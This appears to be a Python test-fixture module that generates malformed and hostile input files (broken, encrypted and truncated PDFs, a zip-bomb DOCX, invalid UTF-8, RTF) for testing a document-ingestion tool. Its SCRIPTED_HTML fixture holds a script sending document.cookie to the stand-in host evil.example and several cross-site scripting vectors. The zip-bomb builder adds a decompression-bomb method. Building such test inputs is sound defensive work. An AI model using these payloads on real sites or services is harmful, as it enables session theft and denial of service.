"""Hostile documents, made by the tests themselves: broken, locked, empty, huge or scripted."""

from __future__ import annotations

import io
import random
import zipfile

from pypdf import PdfReader, PdfWriter


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF with a correct cross-reference table; object 1 is the catalog."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def text_pdf(lines: list[str]) -> bytes:
    """One page of Helvetica text, one line each."""
    ops = ["BT", "/F1 11 Tf", "14 TL", "50 780 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({escaped}) Tj T*")
    ops.append("ET")
    stream = "\n".join(ops).encode("latin-1")
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def image_only_pdf() -> bytes:
    """A scanned page: one image, no text layer."""
    pixels = bytes(random.Random(1).randrange(256) for _ in range(64 * 64))
    draw = b"q 500 0 0 700 50 50 cm /Im1 Do Q"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /XObject << /Im1 4 0 R >> >> /Contents 5 0 R >>",
            b"<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray "
            b"/BitsPerComponent 8 /Length %d >>\nstream\n" % len(pixels) + pixels + b"\nendstream",
            b"<< /Length %d >>\nstream\n" % len(draw) + draw + b"\nendstream",
        ]
    )


GUIDELINE_LINES = [
    "Walking for Adults",
    "Recommendations",
    "The panel recommends that adults walk at least 30 minutes a day (Grade B).",
    "Clinicians should ask adults about their activity at every visit (Grade B).",
]


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf(GUIDELINE_LINES))))
    writer.encrypt(user_password="open-sesame", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def truncated_pdf() -> bytes:
    whole = text_pdf(GUIDELINE_LINES * 20)
    return whole[: len(whole) // 3]


def zip_bomb_docx(expanded_bytes: int) -> bytes:
    """A DOCX whose document.xml unpacks to more than ``expanded_bytes``: a few hundred KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"/>',
        )
        head = b'<?xml version="1.0"?><w:document xmlns:w="x"><w:body><w:p><w:r><w:t>'
        with zf.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(head)
            chunk = b"a" * (1024 * 1024)
            for _ in range(expanded_bytes // len(chunk) + 2):
                member.write(chunk)
            member.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


def not_a_zip_docx() -> bytes:
    """Starts like a zip (as every DOCX does), then is junk."""
    return b"PK\x03\x04" + random.Random(2).randbytes(2048)


def invalid_utf8_text() -> bytes:
    return (
        b"# Walking for Adults\n\n## Recommendations\n\n"
        b"- The panel recommends that adults walk \xff\xfe\xc3\x28 30 minutes a day (Grade B).\n"
        b"- Clinicians should ask \xed\xa0\x80 adults about their activity (Grade B).\n"
    )


SCRIPTED_HTML = b"""<!doctype html><html><head><title>Walking for Adults</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script></head>
<body onload="alert(1)"><h1>Walking for Adults <img src=x onerror="alert(2)"></h1>
<h2>Recommendations</h2>
<ul>
<li>The panel recommends that adults walk at least 30 minutes a day (Grade B).
<a href="javascript:alert(3)">Read more</a></li>
<li>Clinicians should ask adults about their activity at every visit (Grade B).
&lt;script&gt;alert(4)&lt;/script&gt; <a href="JaVaScRiPt:alert(5)">details</a></li>
</ul>
<iframe src="javascript:alert(6)"></iframe>
<style>body { background: url("javascript:alert(7)") }</style>
</body></html>
"""


def rtf_guideline() -> bytes:
    """A Rich Text Format guideline, as Word saves it when asked to: text among control words."""
    return (
        rb"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fswiss Helvetica;}}"
        b"\n"
        rb"\f0\fs24 {\b Screening for walking problems}\par"
        b"\n"
        rb"\pard Recommendations\par"
        b"\n"
        rb"\pard Adults should walk every day (Grade B).\par"
        b"\n}"
    )
